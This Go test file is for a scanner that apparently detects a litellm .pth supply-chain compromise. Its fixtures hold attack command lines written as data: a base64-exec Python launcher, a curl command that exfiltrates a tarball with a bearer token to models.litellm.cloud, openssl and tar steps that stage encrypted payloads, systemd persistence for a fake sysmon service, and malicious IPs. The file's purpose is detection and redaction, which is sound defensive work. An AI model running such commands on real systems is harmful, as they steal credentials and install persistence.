package live

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/litesweep/litesweep/sweep"
	"github.com/litesweep/litesweep/sweep/sweeptest"
)

// launcher is the shape of the litellm_init.pth child's argument (the
// Sigma strings; the rest is inert filler, never decoded).
const launcher = "import base64; exec(base64.b64decode('aW1wb3J0IHN5cw==kI2NF9TQ1JJUFQgPSAiYV'))"

type fakeLister struct {
	procs   []Process
	conns   []Connection
	procErr error
	connErr error
}

func (f fakeLister) Processes(context.Context) ([]Process, error) { return f.procs, f.procErr }
func (f fakeLister) Connections(context.Context) ([]Connection, error) {
	return f.conns, f.connErr
}

func collect(t *testing.T, s *Source) ([]sweep.Finding, []sweep.Error) {
	t.Helper()
	c := sweep.NewCollection(nil)
	s.Collect(context.Background(), c)
	return c.Drain()
}

func indicatorIDs(fs []sweep.Finding) []string {
	var out []string
	for _, f := range fs {
		id := ""
		if f.Indicator != nil {
			id = f.Indicator.ID
		}
		out = append(out, fmt.Sprintf("%s/%s/%d/%s", f.Category, id, f.Location.PID, f.Severity))
	}
	return out
}

func TestProcessIndicators(t *testing.T) {
	m := sweeptest.Matcher(t)
	start := time.Date(2026, 3, 24, 11, 0, 0, 0, time.UTC)
	tests := []struct {
		name string
		p    Process
		want []string // category/indicator/pid/severity
		text string   // substring the evidence must hold
		not  string   // substring the evidence must not hold
	}{
		{name: "pth child from a venv",
			p:    Process{PID: 101, PPID: 100, Exe: "/usr/bin/python3.12", Argv: []string{"/home/alice/.venv/bin/python", "-c", launcher}, User: "alice", Started: start},
			want: []string{"process/proc-pth-child/101/critical"}, text: "exec(base64.b64decode('aW1wb3J0"},
		{name: "benign python -c",
			p: Process{PID: 102, Exe: "/usr/bin/python3.11", Argv: []string{"python3", "-c", "import time; time.sleep(1)"}}},
		{name: "launcher string in a non-python process is not the pth child",
			p: Process{PID: 103, Exe: "/usr/bin/grep", Argv: []string{"grep", "-r", "exec(base64.b64decode('aW1wb3J0", "/srv"}}},
		{name: "sysmon.py loop",
			p:    Process{PID: 104, Exe: "/usr/bin/python3.11", Argv: []string{"/usr/bin/python3", "/home/bob/.config/sysmon/sysmon.py"}, User: "bob"},
			want: []string{"process/proc-sysmon/104/critical"}},
		{name: "pglog second stage",
			p:    Process{PID: 105, Exe: "/tmp/pglog", Argv: []string{"/tmp/pglog"}},
			want: []string{"process/proc-pglog/105/critical"}},
		{name: "curl exfil with a bearer header and a token variable",
			p: Process{PID: 106, Exe: "/usr/bin/curl", Argv: []string{"curl", "-s", "-o", "/dev/null", "-X", "POST", "https://models.litellm.cloud/",
				"-H", "X-Filename: tpcp.tar.gz", "-H", "Authorization: Bearer sk-live-SECRET1", "--data-binary", "@/tmp/tmpx/tpcp.tar.gz"}},
			want: []string{"process/proc-curl-exfil/106/critical"}, text: "tpcp.tar.gz", not: "SECRET1"},
		{name: "tar staging",
			p:    Process{PID: 107, Exe: "/usr/bin/tar", Argv: []string{"tar", "-czf", "/tmp/tmpab/tpcp.tar.gz", "-C", "/tmp/tmpab", "payload.enc", "session.key.enc"}},
			want: []string{"process/proc-tar-staging/107/critical"}},
		{name: "openssl shows the indicator-bearing -pass value as the pack string",
			p: Process{PID: 108, Exe: "/usr/bin/openssl", Argv: []string{"openssl", "enc", "-aes-256-cbc", "-in", "/tmp/tmpab/c", "-out", "/tmp/tmpab/payload.enc",
				"-pass", "file:/tmp/tmpab/session.key", "-pbkdf2"}},
			want: []string{"process/proc-openssl-staging/108/critical"}, text: "…session.key", not: "tmpab"},
		{name: "systemctl enabling sysmon",
			p:    Process{PID: 109, Exe: "/usr/bin/systemctl", Argv: []string{"systemctl", "--user", "enable", "--now", "sysmon.service"}},
			want: []string{"process/proc-systemctl-sysmon/109/high"}},
		{name: "kernel thread", p: Process{PID: 2}},
		{name: "own process is never reported",
			p: Process{PID: 4242, Exe: "/tmp/pglog", Argv: []string{"/tmp/pglog"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := &Source{Matcher: m, Lister: fakeLister{procs: []Process{tc.p}}, Self: 4242}
			fs, errs := collect(t, s)
			if len(errs) != 0 {
				t.Fatalf("errors: %+v", errs)
			}
			got := indicatorIDs(fs)
			if strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Fatalf("findings %v, want %v", got, tc.want)
			}
			for _, f := range fs {
				if tc.text != "" && !strings.Contains(f.Evidence.Text, tc.text) {
					t.Errorf("evidence %q lacks %q", f.Evidence.Text, tc.text)
				}
				if tc.not != "" && strings.Contains(f.Evidence.Text, tc.not) {
					t.Errorf("evidence %q leaks %q", f.Evidence.Text, tc.not)
				}
				if f.Collector != NameProcesses || f.Indicator.Sources == nil {
					t.Errorf("collector %q indicator %+v", f.Collector, f.Indicator)
				}
				// The process's identity, which remediation re-checks
				// before it kills: pid, resolved exe, start time.
				if f.Location.PID != tc.p.PID || f.Location.Exe != tc.p.Exe || (!tc.p.Started.IsZero() && (f.Evidence.Time == nil || !f.Evidence.Time.Equal(tc.p.Started))) {
					t.Errorf("identity: location %+v time %v, process %+v", f.Location, f.Evidence.Time, tc.p)
				}
			}
		})
	}
}

func TestPthChildAttributes(t *testing.T) {
	start := time.Date(2026, 3, 24, 11, 0, 0, 0, time.UTC)
	p := Process{PID: 101, PPID: 100, Exe: "/usr/bin/python3.12", Argv: []string{"/home/alice/.venv/bin/python", "-c", launcher + strings.Repeat("QUFB", 5000)}, User: "alice", Started: start}
	fs, _ := collect(t, &Source{Matcher: sweeptest.Matcher(t), Lister: fakeLister{procs: []Process{p}}})
	if len(fs) != 1 {
		t.Fatalf("got %d findings", len(fs))
	}
	f := fs[0]
	if f.Environment != "/home/alice/.venv" || f.User != "alice" || f.Evidence.Time == nil || !f.Evidence.Time.Equal(start) {
		t.Errorf("env %q user %q time %v", f.Environment, f.User, f.Evidence.Time)
	}
	if len(f.Evidence.Text) > 400 || strings.Contains(f.Evidence.Text, "QUFB") {
		t.Errorf("the stage's text reached the evidence: %d bytes: %q", len(f.Evidence.Text), f.Evidence.Text)
	}
}

func pyChain(n, depth int) []Process {
	var ps []Process
	for i := 0; i < n; i++ {
		pid := int32(1000 + i)
		ppid := int32(1) // init
		if i%(n/depth+1) != 0 && depth > 1 {
			ppid = pid - 1
		}
		if depth <= 1 {
			ppid = 999 // a non-python parent (gunicorn master is python; keep shallow)
		}
		ps = append(ps, Process{PID: pid, PPID: ppid, Exe: "/usr/bin/python3.11", Argv: []string{"python3", "-c", "pass"}})
	}
	return append(ps, Process{PID: 999, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}})
}

func TestForkStorm(t *testing.T) {
	m := sweeptest.Matcher(t)
	tests := []struct {
		name  string
		procs []Process
		want  sweep.Severity // "" = nothing
	}{
		{"few python processes", pyChain(50, 50), ""},
		{"many in a shallow tree", pyChain(ForkStormCount+10, 1), sweep.Low},
		{"many in a deep chain", pyChain(ForkStormCount+10, 40), sweep.High},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs, _ := collect(t, &Source{Matcher: m, Lister: fakeLister{procs: tc.procs}})
			var got sweep.Severity
			for _, f := range fs {
				if f.Indicator != nil && f.Indicator.ID == "fork-storm" {
					got = f.Severity
					if !strings.Contains(f.Title, fmt.Sprint(ForkStormCount)) || f.Location.PID == 0 {
						t.Errorf("title %q pid %d", f.Title, f.Location.PID)
					}
				}
			}
			if got != tc.want {
				t.Fatalf("severity %q, want %q", got, tc.want)
			}
		})
	}
}

func TestConnections(t *testing.T) {
	m := sweeptest.Matcher(t)
	procs := []Process{{PID: 77, Exe: "/usr/bin/python3.11", Argv: []string{"python3", "x.py", "--password", "hunter2"}, User: "alice"}}
	conns := []Connection{
		{PID: 77, Local: "10.0.0.5:40000", RemoteIP: "83.142.209.11", RemotePort: 443, Status: "ESTABLISHED"},
		{PID: 77, Local: "10.0.0.5:40001", RemoteIP: "1.1.1.1", RemotePort: 443, Status: "ESTABLISHED"},
		{PID: 0, Local: "10.0.0.5:40002", RemoteIP: "46.151.182.203", RemotePort: 443, Status: "SYN_SENT"},
	}
	fs, _ := collect(t, &Source{Matcher: m, Lister: fakeLister{procs: procs, conns: conns}})
	got := indicatorIDs(fs)
	want := "network/net-models-litellm-cloud-ip/0/critical,network/net-checkmarx-zone-ip/77/critical"
	if strings.Join(got, ",") != want {
		t.Fatalf("got %v, want %s", got, want)
	}
	if fs[1].Evidence.Text != "python3 … --password …" {
		t.Errorf("evidence %q, want only the program and option names", fs[1].Evidence.Text)
	}
}

func TestListerErrorsAreRecorded(t *testing.T) {
	fs, errs := collect(t, &Source{Matcher: sweeptest.Matcher(t), Lister: fakeLister{procErr: errors.New("boom"), connErr: errors.New("bang")}})
	if len(fs) != 0 || len(errs) != 2 || errs[0].Collector != NameProcesses || errs[1].Collector != NameNetwork {
		t.Fatalf("findings %v errors %+v", fs, errs)
	}
}

func TestCgroupUnits(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"0::/user.slice/user-1000.slice/user@1000.service/app.slice/sysmon.service\n", "sysmon.service user 1000"},
		{"0::/system.slice/sysmon.service\n", "sysmon.service system "},
		{"12:pids:/user.slice/user-0.slice/user@0.service/sysmon.service\n0::/user.slice/user-0.slice/user@0.service/sysmon.service\n", "sysmon.service user 0"}, // v1 and v2 hierarchies name the same cgroup,
		{"0::/user.slice/user-1000.slice/session-3.scope\n", "session-3.scope system "},
		{"0::/\n", ""},
		{"garbage", ""},
	}
	for _, tc := range tests {
		var got []string
		for _, u := range CgroupUnits(tc.in) {
			scope := "system"
			if u.User {
				scope = "user"
			}
			got = append(got, u.Name+" "+scope+" "+u.UID)
		}
		if strings.Join(got, ",") != tc.want {
			t.Errorf("CgroupUnits(%q) = %v, want %q", tc.in, got, tc.want)
		}
	}
}

func TestUnits(t *testing.T) {
	m := sweeptest.Matcher(t)
	run := t.TempDir()
	mk := func(p string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(run, p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("0123456789abcdef", filepath.Join(run, p)); err != nil {
			t.Fatal(err)
		}
	}
	// uid 1000 has sysmon loaded (runtime state) but no process: reported as loaded.
	mk("user/1000/systemd/units/invocation:sysmon.service")
	mk("user/1000/systemd/units/log-extra-fields:sysmon.service") // same unit, reported once
	mk("user/1000/systemd/units/invocation:dbus.service")         // not in the pack
	// uid 0 runs it: reported as active, its runtime state not again.
	mk("user/0/systemd/units/invocation:sysmon.service")
	// the system manager has a namesake sysmon.service (Sysmon for Linux).
	mk("systemd/units/invocation:sysmon.service")
	procs := []Process{
		{PID: 300, Exe: "/usr/bin/python3.11", Argv: []string{"/usr/bin/python3", "/root/.config/sysmon/sysmon.py"}, User: "root",
			Cgroup: "0::/user.slice/user-0.slice/user@0.service/app.slice/sysmon.service\n"},
		{PID: 301, Exe: "/tmp/pglog", Argv: []string{"/tmp/pglog"}, User: "root",
			Cgroup: "0::/user.slice/user-0.slice/user@0.service/app.slice/sysmon.service\n"},
		{PID: 400, Exe: "/opt/sysmon/sysmon", Argv: []string{"/opt/sysmon/sysmon", "-i", "/opt/sysmon/config.xml"},
			Cgroup: "0::/system.slice/sysmon.service\n"},
	}
	fs, errs := collect(t, &Source{Matcher: m, Lister: fakeLister{procs: procs}, RunDir: run})
	if len(errs) != 0 {
		t.Fatalf("errors %+v", errs)
	}
	var units []string
	for _, f := range fs {
		if f.Category == "unit" {
			units = append(units, fmt.Sprintf("%s|%s|%d|%s|%s", f.Indicator.ID, f.Severity, f.Location.PID, f.Location.Path, f.Title))
		}
	}
	want := []string{
		"sysmon-unit-system|low|400||systemd system unit sysmon.service is active (1 process(es) in its cgroup); none of them is Python, so it may be a legitimate unit of the same name",
		"sysmon-unit|critical|300||systemd user unit sysmon.service is active (2 process(es) in its cgroup)",
		"sysmon-unit|critical|0|" + filepath.ToSlash(run) + "/user/1000/systemd/units/invocation:sysmon.service|systemd user unit sysmon.service is loaded (runtime state invocation:sysmon.service)",
	}
	if strings.Join(units, "\n") != strings.Join(want, "\n") {
		t.Fatalf("units:\n%s\nwant:\n%s", strings.Join(units, "\n"), strings.Join(want, "\n"))
	}
}

// TestEvidence: a command line reaches the report only as the program's
// name, option names and the pack's own strings; every secret-shaped and
// ordinary value alike is "…" (no deny-list decides what is secret).
func TestEvidence(t *testing.T) {
	stage := "import base64; exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M='))"
	tests := []struct {
		argv []string
		keep []string
		want string
	}{
		{[]string{"mysql", "--password", "s3cret", "-h", "db"}, nil, "mysql --password … -h …"},
		{[]string{"mysql", "-ps3cret", "-uroot"}, nil, "mysql …"},
		{[]string{"tool", "--api-key=abc123", "--verbose"}, nil, "tool --api-key=… --verbose"},
		{[]string{"env", "GITHUB_TOKEN=ghp_xxx", "AWS_SECRET_ACCESS_KEY=zzz", "HOME=/root", "python3"}, nil, "env …"},
		{[]string{"git", "clone", "https://user:tok@github.com/o/r"}, nil, "git …"},
		{[]string{"curl", "-u", "admin:pw", "https://x"}, nil, "curl -u …"},
		{[]string{"curl", "-H", "Authorization: Bearer abc", "-d", "@/tmp/tpcp.tar.gz", "https://u:p@models.litellm.cloud/x"},
			[]string{"tpcp.tar.gz", "models.litellm.cloud"}, "curl -H … -d …tpcp.tar.gz -d_none"},
		{[]string{"openssl", "enc", "-pass", "file:/tmp/t/session.key"}, []string{"session.key"}, "openssl … …session.key"},
		{[]string{"openssl", "enc", "-pass", "pass:hunter2"}, []string{"session.key"}, "openssl …"},
		{[]string{"/home/alice/.venv/bin/python3.11", "-c", stage}, []string{"exec(base64.b64decode("},
			"python3.11 -c …exec(base64.b64decode(…"},
		{[]string{"/tmp/x y/ev il", "--token=ghp_1"}, nil, "… --token=…"},
		{[]string{"python3", "--db=" + "postgres://u:pw@h/models.litellm.cloud"}, []string{"models.litellm.cloud"}, "python3 --db=…models.litellm.cloud"},
	}
	tests[6].want = "curl -H … -d …tpcp.tar.gz …models.litellm.cloud…"
	for _, tc := range tests {
		got := Evidence(tc.argv, tc.keep)
		if got != tc.want {
			t.Errorf("Evidence(%q) =\n %s\nwant\n %s", tc.argv, got, tc.want)
		}
		for _, secret := range []string{"s3cret", "abc123", "ghp_", "tok@", "admin:pw", "Bearer", "hunter2", "u:p@", "u:pw", "aW1w", "alice", "zzz"} {
			if strings.Contains(got, secret) {
				t.Errorf("Evidence(%q) = %q shows %q", tc.argv, got, secret)
			}
		}
	}
}
